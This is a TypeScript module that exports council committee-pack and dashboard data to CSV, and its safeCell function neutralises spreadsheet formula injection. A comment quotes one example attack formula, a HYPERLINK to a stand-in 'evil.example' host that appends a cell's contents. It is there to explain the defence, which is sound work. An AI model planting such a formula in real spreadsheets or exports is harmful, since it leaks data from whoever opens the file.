// The committee pack and dashboard tables as CSV, for officers who sort and filter in Excel.
// papaparse does the quoting (commas, quotes, line breaks); this file decides the rows and makes
// the cells safe to open.
import Papa from 'papaparse';
import type { CommitteePack, PackAppendix, PackVisit } from '../../core/pack/types';

export const CSV_MIME_TYPE = 'text/csv;charset=utf-8';

export const PACK_CSV_COLUMNS = ['section', 'subsection', 'visitId', 'team', 'councillor', 'visitDay', 'text'] as const;
export type PackCsvRow = Record<(typeof PACK_CSV_COLUMNS)[number], string | number>;

export interface CsvOptions {
  /**
   * Start with a UTF-8 byte order mark (default true). Without it Excel reads the file as
   * Windows-1252 and turns "£" and "–" in councillors' text into mojibake.
   */
  bom?: boolean;
}

/**
 * A spreadsheet cell that cannot run. Excel, LibreOffice and Google Sheets treat a cell that starts
 * with =, +, - or @ as a formula even in a CSV file (and a leading tab or CR can hide one), so text
 * a councillor typed, e.g. `=HYPERLINK("https://evil.example?"&A1)` or a DDE payload, would run on
 * the officer's machine when the export is opened. A leading apostrophe makes the cell plain text
 * (OWASP "CSV injection"). Our own check, not papaparse's `escapeFormulae`, whose pattern misses
 * multi-line cells such as "=1+1\nmore".
 */
export function safeCell(value: string | number | undefined | null): string | number {
  if (value === undefined || value === null) return '';
  if (typeof value === 'number') return Number.isFinite(value) ? value : '';
  // A typed list marker ("- Dip sampling", "* point") is a bullet, not a formula: shown as "• ",
  // so ordinary bullet text opens as written instead of as "'- Dip sampling".
  const text = value.replace(/^[ \t]*[-*\u2013](?=[ \t]+\S)[ \t]+/gm, '\u2022 ');
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/**
 * One row per summary statement, service response, escalated issue, head-of-service answer and
 * appendix answer. Statements carry a visit id but no team, so pass the pack's visits to fill team
 * and day reliably; without them they are inferred where the pack allows (see `placeOf`).
 */
export function packToCsv(pack: CommitteePack, visits: PackVisit[] = [], options: CsvOptions = {}): string {
  const where = placeOf(pack, visits);
  const rows: PackCsvRow[] = [];
  const add = (
    section: string,
    subsection: string,
    visitId: number | '',
    councillor: string,
    text: string | undefined
  ): void => {
    const place = visitId === '' ? undefined : where(visitId, councillor);
    rows.push({
      section,
      subsection,
      visitId,
      team: place?.teamName ?? '',
      councillor,
      visitDay: place?.day ?? '',
      text: text ?? ''
    });
  };

  const summaries: [string, keyof CommitteePack['summary']][] = [
    ['Quality of practice: strengths', 'qualityStrengths'],
    ['Quality of practice: areas for development', 'qualityDevelopment'],
    ['Experience of working for the council: strengths', 'experienceStrengths'],
    ['Experience of working for the council: areas for development', 'experienceDevelopment']
  ];
  for (const [subsection, key] of summaries) {
    for (const s of pack.summary[key]) add('Briefing information', subsection, s.visitId, s.councillorName, s.text);
  }
  for (const w of pack.integrityWarnings)
    add('Check before reporting', 'Changed outside the Frontline service', '', '', w);
  if (pack.serviceResponse.trim()) add('Service response to the findings', '', '', '', pack.serviceResponse);
  for (const t of pack.themes?.themes ?? []) add('Themes across the years', t.name, '', '', t.sentence);
  for (const r of pack.hosResponses) {
    add('Head of Service responses', 'Issues raised', r.visitId, r.councillorName, r.request);
    add(
      'Head of Service responses',
      'Response',
      r.visitId,
      r.councillorName,
      r.response?.trim() ? r.response : 'Awaiting response'
    );
  }
  pack.appendices.forEach((form, i) => {
    for (const section of form.sections) {
      for (const answer of section.answers) {
        rows.push({
          section: `Appendix ${i + 1}: ${form.title}`,
          subsection: `${section.heading}: ${answer.label}`,
          visitId: visitOfForm(visits, form) ?? '',
          team: form.teamName,
          councillor: form.councillorName,
          visitDay: form.day,
          text: answer.text
        });
      }
    }
  });
  return toCsv(rows, PACK_CSV_COLUMNS, options);
}

export interface CsvColumn {
  key: string;
  header: string;
}

/** Any table (a dashboard view, say) as CSV, columns in the order given; missing cells are empty. */
export function dashboardToCsv(
  rows: Record<string, string | number | undefined>[],
  columns: (CsvColumn | string)[],
  options: CsvOptions = {}
): string {
  const cols = columns.map((c) => (typeof c === 'string' ? { key: c, header: c } : c));
  const renamed = rows.map((row) => Object.fromEntries(cols.map((c) => [c.header, row[c.key] ?? ''])));
  return toCsv(
    renamed,
    cols.map((c) => c.header),
    options
  );
}

function toCsv(rows: Record<string, string | number>[], fields: readonly string[], options: CsvOptions): string {
  const data = rows.map((row) => fields.map((f) => safeCell(row[f])));
  // CRLF as RFC 4180 asks; papaparse quotes any cell with a comma, quote, line break or edge space.
  const csv = Papa.unparse({ fields: fields.map((f) => String(safeCell(f))), data }, { newline: '\r\n' });
  return ((options.bom ?? true) ? '\uFEFF' : '') + csv;
}

type Place = { teamName: string; day: string };

/**
 * Where a statement came from: the visits given, else the councillor's only appendix (a volunteer
 * with two forms in one pack stays ambiguous), else the team a head-of-service row names.
 */
function placeOf(pack: CommitteePack, visits: PackVisit[]): (visitId: number, councillor: string) => Place | undefined {
  const byVisit = new Map<number, Place>(visits.map((v) => [v.visitId, { teamName: v.teamName, day: v.day }]));
  const hosTeams = new Map<number, string>(pack.hosResponses.map((r) => [r.visitId, r.teamName]));
  return (visitId, councillor) => {
    const known = byVisit.get(visitId);
    if (known) return known;
    const forms = pack.appendices.filter((f) => f.councillorName === councillor);
    if (forms.length === 1) return { teamName: forms[0].teamName, day: forms[0].day };
    const team = hosTeams.get(visitId);
    return team ? { teamName: team, day: '' } : undefined;
  };
}

function visitOfForm(visits: PackVisit[], form: PackAppendix): number | undefined {
  return visits.find(
    (v) => v.day === form.day && v.teamName === form.teamName && v.councillorNames.includes(form.councillorName)
  )?.visitId;
}
